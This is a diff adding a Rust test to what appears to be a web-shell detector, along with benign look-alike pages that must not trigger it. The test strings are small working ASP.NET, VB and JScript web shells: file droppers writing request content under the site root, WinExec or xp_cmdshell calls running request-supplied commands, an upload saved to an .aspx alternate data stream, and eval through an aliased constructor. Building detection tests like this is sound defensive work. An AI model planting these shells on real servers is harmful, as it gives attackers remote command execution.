@@ -1753,6 +1753,85 @@ fn stop_30_new_kinds() {
     );
 }
 
+/// Stop 30's second read: what it found missed, and what it found tripping.
+#[test]
+fn stop_30_second_read() {
+    // the root kept in a name, the whole path kept in a name, the application's folder by a
+    // property, an upload-only page, several declarators in one declaration
+    for page in [
+        "<%@ Page Language=\"C#\" %>\n<% string root = Server.MapPath(\"/\");\nstring n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(root + n, Request.Form[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nstring p = Server.MapPath(\"/\") + n;\nSystem.IO.File.WriteAllText(p, Request.Form[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(AppDomain.CurrentDomain.BaseDirectory + n, Request.Form[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nif (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"/\") + n); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"], c = Request.Form[\"c\"];\nSystem.IO.File.WriteAllText(System.Web.Hosting.HostingEnvironment.MapPath(\"~/\") + n, c); %>\n",
+    ] {
+        has(page, "EXRAY_File_Dropper_Flow");
+    }
+    // a chunk handler that writes into a folder of its own under the root
+    let chunks = "<%@ WebHandler Language=\"C#\" Class=\"Up\" %>\nusing System.IO; using System.Web;\npublic class Up : IHttpHandler {\n public void ProcessRequest(HttpContext context) {\n  string fileName = context.Request[\"name\"];\n  using (var fs = new FileStream(Path.Combine(context.Server.MapPath(\"~/\"), \"App_Data\", \"uploads\", fileName), FileMode.Append)) {\n   context.Request.Files[0].InputStream.CopyTo(fs);\n  }\n }\n public bool IsReusable { get { return false; } }\n}\n";
+    assert!(
+        !hits(chunks).contains("EXRAY_File_Dropper_Flow"),
+        "{:?}",
+        hits(chunks)
+    );
+    // P/Invoke imports written other ways, called through their class
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstatic class K {\n [DllImport(\"kernel32.dll\", CharSet = CharSet.Ansi,\n  EntryPoint = \"WinExec\")]\n extern static int Go(string c, int s);\n}\nvoid Page_Load(object s, EventArgs e) { K.Go(\"cmd /c \" + Request[\"x\"], 0); }\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nDeclare Function Go Lib \"kernel32\" _\n  Alias \"WinExec\" (ByVal l As String, ByVal s As Integer) As Integer\nSub Page_Load()\n  Go(\"cmd /c \" & Request(\"c\"), 0)\nEnd Sub\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // a workflow page's own CreateProcess method is no process API
+    let workflow = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid CreateProcess(string template, string owner) { Workflow.Start(template, owner); }\nvoid Page_Load(object s, EventArgs e) { CreateProcess(Request.Form[\"template\"], User.Identity.Name); }\n</script>\n";
+    assert!(hits(workflow).is_empty(), "{:?}", hits(workflow));
+    // xp_cmdshell as a stored procedure with its command bound; sp_configure names the option
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"master..xp_cmdshell\", cn);\ncmd.CommandType = CommandType.StoredProcedure;\ncmd.Parameters.AddWithValue(\"@command_string\", Request.Form[\"q\"]);\ncmd.ExecuteReader(); } %>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    let toggle = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"EXEC sp_configure 'xp_cmdshell', @v; RECONFIGURE\", cn);\ncmd.Parameters.AddWithValue(\"@v\", Request.Form[\"on\"] == \"1\" ? 1 : 0);\ncmd.ExecuteNonQuery(); } %>\n";
+    assert!(
+        !hits(toggle).contains("EXRAY_SQL_Shell_Request_Flow"),
+        "{:?}",
+        hits(toggle)
+    );
+    // uploads of settings and a name cleaned of a script extension are data
+    for page in [
+        "<%@ Page Language=\"C#\" %>\n<% if (fu.HasFile) fu.SaveAs(Server.MapPath(\"~/App_Data/sitesettings.config\")); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% if (fu.HasFile) fu.SaveAs(Server.MapPath(\"~/up/\") + fu.FileName.Replace(\".aspx\", \".txt\")); %>\n",
+    ] {
+        assert!(
+            !hits(page).contains("EXRAY_Upload_Saved_As_Script"),
+            "{page}: {:?}",
+            hits(page)
+        );
+    }
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"~/help.aspx::$DATA\")); %>\n",
+        "EXRAY_Upload_Saved_As_Script",
+    );
+    // a type test is no alias
+    let test = "<script language=\"javascript\" runat=\"server\">\nfunction kind(v) { switch (v.constructor) { case Array: return 1; } return v.constructor == Date ? 2 : 0; }\nvar k = kind(Request.Cookies(\"k\"));\n</script>\n";
+    assert!(
+        !hits(test).contains("EXRAY_JScript_Eval_Alias"),
+        "{:?}",
+        hits(test)
+    );
+    // a built-in function's constructor kept in a name; a line comment opening the next block
+    has(
+        "<%@ Page Language=\"JScript\" %>\n<%\nvar f = parseInt.constructor;\nf(Request.Item[\"z\"])();\n%>\n",
+        "EXRAY_JScript_Eval_Alias",
+    );
+    assert!(
+        hits("<%@ Page Language=\"JScript\" %>\n<%eval%>\n<%\t// go\n(Request.Item[\"p\"],\"unsafe\");%>\n")
+            .iter()
+            .any(|r| r.contains("Eval")),
+        "split over a commented block"
+    );
+}
+
 /// Stop 29: XSLT stylesheets, SQL Server command shells, verbatim identifiers, Razor pages, and
 /// the raw body copied into a file the request names.
 #[test]
